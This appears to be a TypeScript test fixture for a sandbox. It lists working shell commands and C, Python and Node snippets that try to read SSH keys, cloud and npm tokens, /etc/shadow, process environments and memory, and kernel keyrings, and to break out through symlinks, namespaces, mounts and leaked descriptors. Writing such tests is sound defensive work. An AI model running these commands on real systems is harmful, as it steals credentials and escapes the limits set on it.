import { inC, inNode, inPython, table } from './hostile.ts'

/** They want to see what is not theirs. */
export const reading = [
  ...table('reading secrets', {
    'files by twenty programs':
      'cd {HOME}; for f in .ssh/id_rsa .aws/credentials .npmrc .netrc .git-credentials .pgpass; do for p in cat tac nl head tail rev od xxd base64 strings sort fold "dd status=none if=/dev/stdin" "grep ." "awk 1" "sed -n p" "cut -c1-" "tr a a" wc; do $p < $f; $p $f; done 2>/dev/null; done; diff .npmrc .netrc; file -f .npmrc; source .bash_history',
    'through the error of a program':
      'bash ~/.npmrc; node ~/.netrc; /usr/bin/python3 ~/.pgpass; curl -K ~/.netrc; make -f ~/.npmrc; jq . ~/.docker/config.json; gcc -x c ~/.ssh/id_rsa; git config -f ~/.npmrc -l; tar -T ~/.npmrc -cf -; date -f ~/.npmrc; ssh -F ~/.ssh/config x',
    'through links of every kind':
      'ln -s {HOME}/.ssh/id_rsa a; ln {HOME}/.npmrc b; cp -r {HOME}/.aws c; cat a b c/*; ln -s / r; cat r{HOME}/.npmrc; mkdir -p n && cd n && ln -s ../../../.npmrc x && cat x; tar chf - . | strings | head; cp -al {HOME}/.config d; git add -f ../a; git show :a',
    'by going up':
      'cat ../../.npmrc ../.env ../sibling/notes; cd ..; ls -la; cd ..; ls -la; find . -type f | head -50; cat .netrc; cat ~+/../home/.npmrc',
    'everything that can be read': `grep -rIsl 'quiet[0-9a-f]\\{18\\}' {BASE} /proc/1 /tmp /run /etc/gitconfig 2>/dev/null; grep -rIsh 'quiet[0-9a-f]\\{18\\}' {HOME} 2>/dev/null`,
    'environments of processes': `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; done 2>/dev/null; env; declare -p; ps auxewww; cat /proc/self/task/*/environ; strings /proc/1/environ`,
    'memory of processes': inPython(`
import os, re
for p in [x for x in os.listdir('/proc') if x.isdigit()]+['{VICTIM}']:
  try:
    for line in open('/proc/%s/maps'%p):
      m=re.match(r'([0-9a-f]+)-([0-9a-f]+) r.*(stack|heap)',line)
      if not m: continue
      f=open('/proc/%s/mem'%p,'rb',0); f.seek(int(m[1],16)); b=f.read(min(int(m[2],16)-int(m[1],16),1<<20))
      for k in re.findall(rb'quiet[0-9a-f]{18}',b): print(k)
  except OSError: pass`),
    'a debugger': inC(`
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
int main(){ int pids[]={1,2,getppid(),{VICTIM}}; for(int i=0;i<4;i++){ long r=ptrace(PTRACE_SEIZE,pids[i],0,0); printf("%d %ld\\n",pids[i],r); char b[64]; struct iovec l={b,64},m={(void*)0x400000,64}; printf("%ld\\n",(long)process_vm_readv(pids[i],&l,1,&m,1,0)); } }`),
    'helpers of git':
      'printf "protocol=https\\nhost=example.invalid\\n\\n" | git credential fill; git credential-store --file ~/.git-credentials get < /dev/null; git config --get-all credential.helper; git config --list --show-origin; git var -l; cat ~/.gitconfig ~/.gitmore',
    'what npm and pip know':
      'npm config list -l --json; npm config get //registry.example.com/:_authToken; pip config list; /usr/bin/python3 -c "import netrc; print(netrc.netrc().hosts)"; npm whoami --offline; cat $(npm config get userconfig) $(npm config get globalconfig)',
    'tools on the PATH': {
      seeks: 'tool',
      run: `for d in $(echo $PATH | tr : ' '); do find $d/.. -maxdepth 3 -type f -size -4k 2>/dev/null | grep '^{HOME}' | xargs -r cat; done`,
    },
    'files that variables name': {
      seeks: 'named',
      run: 'cat {BASE}/settings/cluster {BASE}/settings/cargo/credentials.toml; cat $KUBECONFIG $CARGO_HOME/credentials.toml; find {BASE}/settings -type f -exec cat {} +; cat {BASE}/settings/link; git config --list --show-origin',
    },
    'its own variables': {
      seeks: 'option',
      run: 'echo "$MAVEN_OPTS"; node -p "JSON.stringify(process.env)"',
    },
    'a proxy with a name and a password': {
      seeks: 'proxy',
      run: 'echo "$http_proxy$HTTP_PROXY"',
    },
    'settings of the project in a url': 'git config --get-regexp url; git remote -v; printenv DEPLOY GREETING',
    'keys of the kernel': inPython(`
import ctypes, os
l=ctypes.CDLL(None,use_errno=True)
for ring in (-1,-2,-3,-4,-5):
  b=ctypes.create_string_buffer(4096); n=l.syscall(250,11,ring,b,4096); print(ring,n)
  for i in range(0,max(n,0),4):
    k=int.from_bytes(b.raw[i:i+4],'little'); c=ctypes.create_string_buffer(4096); m=l.syscall(250,11,k,c,4096); print(k,c.raw[:max(m,0)])
  k=l.syscall(250,10,ring,b'user',b'{MARK}',0)
  if k>0: c=ctypes.create_string_buffer(99); l.syscall(250,11,k,c,99); print(c.value)
print(open('/proc/keys').read())`),
    'messages of the kernel and logs':
      'dmesg | tail -3; cat /dev/kmsg & sleep 0.1; kill %1; journalctl -n3; tail -n3 /var/log/*; last; cat /var/log/auth.log; who; cat /var/run/utmp',
    'shadow and keys of the system':
      'cat /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key /etc/ssl/private/* 2>&1 | grep -v "Permission\\|No such" | head -5 | sed "s/^/quiet: /"; ls ~root /home; cat ~root/.ssh/* ~root/.bash_history /home/*/.ssh/*',
    'a bind of the home folder': `unshare -Urm sh -c 'umount {HOME}; umount -l {HOME}; cat {HOME}/.npmrc; mount --rbind / /mnt; cat /mnt{HOME}/.npmrc; mount --move {HOME} /mnt; cat {HOME}/.npmrc; mount -t overlay o -o lowerdir={BASE}:/tmp /mnt; cat /mnt/home/.npmrc; cat /mnt/.npmrc'`,
    'a namespace with all rights': `unshare -Urmpf --mount-proc sh -c 'cat /proc/*/environ | tr "\\0" "\\n"; nsenter -t 1 -m cat {HOME}/.npmrc; chroot /proc/1/root cat {HOME}/.npmrc; mount -t proc p /mnt; cat /mnt/{VICTIM}/environ; cat /mnt/1/root{HOME}/.npmrc'; nsenter -t 1 -a cat {HOME}/.npmrc`,
    'old roots': `cat /oldroot{HOME}/.npmrc /newroot{HOME}/.npmrc; ls -la / /proc/1/cwd/ /proc/1/root/; cd /proc/1/cwd && cat .{HOME}/.npmrc; for f in /proc/*/fd/*; do readlink $f; cat $f/.npmrc $f{HOME}/.npmrc $f/../.npmrc; done 2>/dev/null </dev/null | head -40`,
    'descriptors that were left open': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(){ for(int i=0;i<256;i++){ struct stat s; if(fstat(i,&s)) continue; char b[300]; int n; printf("%d %o\\n",i,s.st_mode); int d=openat(i,".."+0,O_RDONLY); if(d>=0){ puts("folder"); int f=openat(i,".npmrc",O_RDONLY); if(f>=0){ n=read(f,b,299); write(1,b,n);} f=openat(i,"../../../../../../..{HOME}/.npmrc",O_RDONLY); if(f>=0){n=read(f,b,299); write(1,b,n);} } if(i>2&&(n=pread(i,b,299,0))>0) write(1,b,n);} }`),
    'caches of packages':
      'ls -la ~/.cache ~/.cache/app ~/.npm; cat ~/.cache/app/token ~/.cache/*/token; find ~ -type f | xargs cat',
    'records of the runtime':
      'cat {HOME}/.local/state/loader/scratch/*/tmp/*; ls -laR {HOME}/.local/state; find {BASE} -name note -exec cat {} + 2>/dev/null; ls -la /tmp/..; ls /tmp/loader-* /var/tmp',
    'node asks the system': inNode(`
const os = require('os'), fs = require('fs')
console.log(os.userInfo().homedir, os.homedir(), process.env)
for (const p of [os.userInfo().homedir + '/.npmrc', '{HOME}/.ssh/id_rsa', '/proc/self/cwd/../../.npmrc', '/proc/self/exe/../../.npmrc', '/dev/fd/../root{HOME}/.npmrc', 'file://{HOME}/.npmrc'])
  try { console.log(String(fs.readFileSync(p.startsWith('file:') ? new URL(p) : p))) } catch (e) { console.log(e.code) }
for (const e of fs.readdirSync('{HOME}', { withFileTypes: true })) console.log(e.name)`),
    'bit by bit, and turned around':
      'for i in 1 2 3; do cut -c$i ~/.npmrc; done; rev ~/.netrc; base64 ~/.pgpass; xxd -p ~/.npmrc | tr -d "\\n"; gzip -c ~/.npmrc | base64; openssl enc -base64 -in ~/.ssh/id_rsa; tr a-z n-za-m < ~/.npmrc',
  }),
]
